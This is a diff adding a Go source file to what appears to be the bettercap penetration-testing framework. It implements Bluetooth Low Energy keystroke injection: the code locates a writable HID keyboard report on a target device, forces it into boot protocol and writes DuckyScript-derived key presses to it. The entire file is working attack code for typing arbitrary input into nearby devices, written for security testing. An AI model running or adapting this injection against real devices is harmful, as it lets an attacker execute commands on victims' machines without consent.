@@ -0,0 +1,173 @@
+// +build !windows
+
+package ble
+
+import (
+	"fmt"
+	"time"
+
+	"github.com/bettercap/bettercap/modules/hid"
+
+	"github.com/bettercap/gatt"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+var (
+	// org.bluetooth.service.human_interface_device
+	hidServiceUUID = gatt.UUID16(0x1812)
+	// org.bluetooth.characteristic.protocol_mode
+	hidProtocolModeUUID = gatt.UUID16(0x2a4e)
+	// org.bluetooth.characteristic.boot_keyboard_input_report
+	hidBootKeyboardUUID = gatt.UUID16(0x2a22)
+	// org.bluetooth.characteristic.report
+	hidReportUUID = gatt.UUID16(0x2a4d)
+	// org.bluetooth.descriptor.report_reference
+	hidReportRefUUID = gatt.UUID16(0x2908)
+)
+
+const (
+	hidProtocolBoot   = 0x00
+	hidReportTypeIn   = 0x01
+	hidKeyReleaseWait = 10 * time.Millisecond
+)
+
+type bleInjection struct {
+	mac    string
+	layout string
+	script string
+	cmds   []*hid.Command
+}
+
+func (mod *BLERecon) isInjecting() bool {
+	return mod.injection != nil
+}
+
+func (mod *BLERecon) startInjection(mac string, layout string, script string) error {
+	if mod.isEnumerating() {
+		return fmt.Errorf("A connection to %s is already active, please wait.", mod.currDevice.Device.ID())
+	} else if mod.isWatching() {
+		return fmt.Errorf("A characteristic of %s is being watched, stop it first.", mod.watch.mac)
+	}
+
+	keyMap := hid.KeyMapFor(layout)
+	if keyMap == nil {
+		return fmt.Errorf("could not find keymap for '%s' layout, supported layouts are: %s", layout, hid.SupportedLayouts())
+	}
+
+	cmds, err := hid.DuckyParser{}.Parse(keyMap, script)
+	if err != nil {
+		return err
+	}
+
+	mod.injection = &bleInjection{
+		mac:    mac,
+		layout: layout,
+		script: script,
+		cmds:   cmds,
+	}
+	mod.writeData = nil
+	mod.writeUUID = nil
+
+	return mod.enumAllTheThings(mac)
+}
+
+// returns the characteristic keyboard reports can be written to, or nil if
+// the device doesn't allow it
+func (mod *BLERecon) findReportCharacteristic(p gatt.Peripheral) (report *gatt.Characteristic, boot bool, mode *gatt.Characteristic) {
+	services, err := p.DiscoverServices([]gatt.UUID{hidServiceUUID})
+	// https://github.com/bettercap/bettercap/issues/498
+	if err != nil && err.Error() != "success" {
+		mod.Error("error discovering services: %s", err)
+		return
+	}
+
+	for _, svc := range services {
+		if !svc.UUID().Equal(hidServiceUUID) {
+			continue
+		}
+
+		chars, err := p.DiscoverCharacteristics(nil, svc)
+		if err != nil {
+			mod.Error("error while enumerating chars for service %s: %s", svc.UUID(), err)
+			continue
+		}
+
+		for _, ch := range chars {
+			_, _, isWritable, _ := parseProperties(ch)
+			if ch.UUID().Equal(hidProtocolModeUUID) {
+				mode = ch
+			} else if !isWritable || report != nil {
+				continue
+			} else if ch.UUID().Equal(hidBootKeyboardUUID) {
+				report, boot = ch, true
+			} else if ch.UUID().Equal(hidReportUUID) && mod.isInputReport(p, ch) {
+				report = ch
+			}
+		}
+	}
+
+	return
+}
+
+func (mod *BLERecon) isInputReport(p gatt.Peripheral, ch *gatt.Characteristic) bool {
+	descs, err := p.DiscoverDescriptors([]gatt.UUID{hidReportRefUUID}, ch)
+	if err != nil {
+		mod.Debug("error while enumerating descriptors of %s: %s", ch.UUID(), err)
+		return false
+	}
+
+	for _, desc := range descs {
+		// report id followed by the report type
+		if raw, err := p.ReadDescriptor(desc); err == nil && len(raw) >= 2 {
+			return raw[1] == hidReportTypeIn
+		}
+	}
+	return false
+}
+
+func (mod *BLERecon) injectKeystrokes(p gatt.Peripheral) {
+	inj := mod.injection
+	defer func() {
+		mod.injection = nil
+	}()
+
+	report, boot, mode := mod.findReportCharacteristic(p)
+	if report == nil {
+		mod.Error("%s has no writable HID keyboard report, it doesn't allow keystroke injection.", inj.mac)
+		return
+	}
+
+	_, _, _, withResponse := parseProperties(report)
+	if boot && mode != nil {
+		if err := p.WriteCharacteristic(mode, []byte{hidProtocolBoot}, true); err != nil {
+			mod.Warning("could not switch %s to the boot protocol: %s", inj.mac, err)
+		}
+	}
+
+	mod.Info("injecting %s into %s via %s (layout:%s) ...", inj.script, tui.Bold(inj.mac), report.UUID(), tui.Yellow(inj.layout))
+
+	release := make([]byte, 8)
+	for i, cmd := range inj.cmds {
+		if cmd.IsHID() {
+			// modifiers, reserved byte and up to six keys
+			press := []byte{cmd.Mode, 0x00, cmd.HID, 0x00, 0x00, 0x00, 0x00, 0x00}
+			if err := p.WriteCharacteristic(report, press, !withResponse); err != nil {
+				mod.Error("error sending HID command #%d: %s", i, err)
+				return
+			}
+			time.Sleep(hidKeyReleaseWait)
+			if err := p.WriteCharacteristic(report, release, !withResponse); err != nil {
+				mod.Error("error releasing HID command #%d: %s", i, err)
+				return
+			}
+		}
+
+		if cmd.IsSleep() {
+			mod.Debug("sleeping %dms after command #%d ...", cmd.Sleep, i)
+			time.Sleep(time.Duration(cmd.Sleep) * time.Millisecond)
+		}
+	}
+
+	mod.Info("sent %d HID commands to %s", len(inj.cmds), inj.mac)
+}